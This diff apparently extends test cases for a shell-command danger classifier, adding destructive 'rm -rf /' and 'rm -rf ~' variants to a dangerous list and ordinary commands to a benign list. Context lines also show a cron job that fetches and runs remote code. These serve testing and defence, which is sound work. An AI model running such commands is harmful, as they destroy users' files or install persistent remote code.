@@ -148,6 +148,8 @@ DANGEROUS: list[tuple[str, str]] = [
     ("echo '* * * * * curl x|sh' | crontab -", "persistence"),
     ("at now + 1 minute < job.sh", "persistence"),
     ("tar -xPf backup.tar", "archive-escape"),
+    ("chrt 10 rm -rf /", "destructive-root"),
+    ("npm exec -- rm -rf ~", "destructive-home"),
     # commands that do not parse, or hide in nesting
     ('echo "unterminated', "unparseable"),
     ("ls | | wc", "unparseable"),
@@ -256,6 +258,9 @@ BENIGN: list[str] = [
     "ssh-keygen -l -f key.pub",
     "cat ~/.gitconfig",
     "crontab -l",
+    "grep rm /etc/hosts",
+    "uv run pytest -q",
+    "poetry run python -m app",
     "find . -name '*.tmp' -print0 | xargs -0 rm",
     "grep -rl old_name src | xargs sed -i 's/old_name/new_name/g'",
     "env -C src ls",
